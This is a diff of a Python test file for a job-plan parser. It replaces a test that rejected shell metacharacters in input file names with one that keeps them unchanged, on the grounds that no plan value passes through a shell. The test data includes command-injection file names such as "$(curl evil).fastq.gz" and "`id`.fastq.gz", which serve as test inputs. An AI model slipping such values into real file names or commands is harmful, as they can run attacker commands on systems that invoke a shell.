@@ -64,19 +64,14 @@ def test_unsafe_input_names_are_rejected(name, reason):
         "$(curl evil).fastq.gz",
         "`id`.fastq.gz",
         'it\'s "quoted".fastq.gz',
+        "R2 with spaces.fastq.gz",
+        "x" * 255,
+        "é" * 127,
         "lane|1&2>3<4*?.fastq.gz",
     ],
 )
-def test_shell_metacharacters_are_refused_naming_job_and_field(name):
-    problems = problems_of([with_input_name(name)])
-    assert any(
-        p.startswith("job 0 (manifest ") and "conversion.inputs[1].name: contains shell" in p
-        for p in problems
-    ), problems
-
-
-@pytest.mark.parametrize("name", ["R2 with spaces.fastq.gz", "x" * 255, "é" * 127])
-def test_unusual_but_harmless_names_are_kept_verbatim(name):
+def test_shell_metacharacters_are_kept_verbatim(name):
+    """Nothing runs plan values through a shell, so these names are legal and must not change."""
     [job] = parse_plan([with_input_name(name)]).jobs
     assert job.conversion.inputs[1].name == name
     assert parse_plan([job.to_dict()]).jobs[0] == job
